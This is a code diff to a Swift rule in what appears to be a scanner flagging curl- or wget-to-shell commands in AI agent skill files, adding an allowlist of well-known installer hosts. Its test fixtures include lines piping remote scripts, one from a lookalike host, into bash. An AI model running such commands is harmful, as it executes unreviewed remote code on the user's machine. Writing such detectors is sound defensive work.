@@ -10,7 +10,7 @@ extension Rule {
     why: """
       A script that goes from the network into a shell is run without a review, and it can change at any time. Name a \
       package with its version, or download the script, check its digest, then run it. Texts that warn of this are not \
-      reported.
+      reported. The installer of a well-known tool from its own site is an info.
       """,
     source: "OWASP Top 10 CI/CD Security Risks, CICD-SEC-3; seen in the wild: skills whose setup step is the attack",
     good: [
@@ -34,6 +34,8 @@ extension Rule {
       Example(
         at: "pdf/scripts/setup.sh", "set -e\n↓curl https://example.org/x | bash -s -- --yes\n",
         beside: ["pdf/SKILL.md": "# PDF\n"]),
+      // An info: the installer of a well-known tool. A name that only starts like its site is another one's.
+      .guide("```sh\n↓curl -sSf https://sh.rustup.rs | sh\n↓curl https://sh.rustup.rs.example.org | sh\n```\n"),
     ],
     check: .eachMention(of: ["curl", "wget", "irm ", "iwr ", "invoke-webrequest", "invoke-restmethod"]) { mentions in
       guard mentions.isForAgents else { return [] }
@@ -42,8 +44,8 @@ extension Rule {
           !mentions.isCommentOrEcho(at: offset), Fetching.runsUnseen(offset, mentions),
           !CautionaryText.surrounds(offset, in: mentions)
         else { return nil }
-        let isSubject = CautionaryText.isSubject(of: mentions.document)
-        return Finding(.unseen, at: Span(offset, offset + 4), severity: isSubject ? .info : nil)
+        let isAdvice = Fetching.isOfPublisher(offset, mentions) || CautionaryText.isSubject(of: mentions.document)
+        return Finding(.unseen, at: Span(offset, offset + 4), severity: isAdvice ? .info : nil)
       }
     })
 }
@@ -65,6 +67,46 @@ private enum Fetching {
   private static func isFromElsewhere(_ part: ArraySlice<UInt8>) -> Bool {
     remote.occur(in: part) && !local.occur(in: part)
   }
+
+  /// Whether all that a line downloads from its first command on is the installer of a well-known tool. The whole line,
+  /// because only its first finding is reported.
+  static func isOfPublisher(_ offset: Int, _ mentions: Mentions) -> Bool {
+    let command = CommandText(at: offset, in: mentions)
+    guard let fetch = command.pipeline.first, !elsewhere.occur(in: command.bytes[...]),
+      !fetchers.occur(in: mentions.after(offset).dropFirst(4))
+    else { return false }
+    // An address may have no scheme; after the download a dot is in a version.
+    let downloads = CommandText.words(of: fetch).filter { $0.utf8.first != UInt8(ascii: "-") && $0.contains(".") }
+    let others = CommandText.words(of: command.bytes[fetch.endIndex...]).filter { $0.contains(":") }
+    return !downloads.isEmpty && (downloads + others).allSatisfy(isInstaller)
+  }
+
+  private static func isInstaller(_ address: String) -> Bool {
+    guard address.utf8.starts(with: "https://".utf8) else { return false }
+    let rest = address.utf8.dropFirst("https://".utf8.count)
+    let host = String(Substring(rest.prefix { $0 != UInt8(ascii: "/") }))
+    return installerHosts.contains(host) || installers.contains { rest.starts(with: $0.utf8) }
+  }
+
+  /// What may lead elsewhere than the address says.
+  private static let elsewhere = Phrases(["$", "..", "%", "-k ", "--insecure", "--proxy", "ftp:", "http:"])
+  private static let fetchers = Phrases(["curl", "wget", "irm ", "iwr ", "invoke-webrequest", "invoke-restmethod"])
+
+  /// Sites on which only the publisher of a tool puts scripts.
+  private static let installerHosts: Set<String> = [
+    "aka.ms", "aspire.dev", "astral.sh", "bun.com", "bun.sh", "deb.nodesource.com", "dot.net", "fluxcd.io",
+    "foundry.paradigm.xyz", "get.docker.com", "get.k3s.io", "get.pnpm.io", "get.pulumi.com", "get.sdkman.io",
+    "get.volta.sh", "install.python-poetry.org", "mise.run", "pixi.sh", "pyenv.run", "rpm.nodesource.com",
+    "sdk.cloud.google.com", "sh.rustup.rs", "starship.rs",
+  ]
+  /// Installers on sites where others can put files, too. A branch or a tag is part of a path, because GitHub also has the
+  /// commits of forks below a repository's address.
+  private static let installers = [
+    "claude.ai/install.", "deno.land/install.", "fly.io/install.", "just.systems/install.", "nixos.org/nix/install",
+    "ollama.com/install.", "opencode.ai/install", "raw.githubusercontent.com/helm/helm/main/",
+    "raw.githubusercontent.com/homebrew/install/head/", "raw.githubusercontent.com/nvm-sh/nvm/v",
+    "raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/",
+  ]
 
   /// Whether the words run the input of the pipe.
   private static func runs(_ words: [String]) -> Bool {
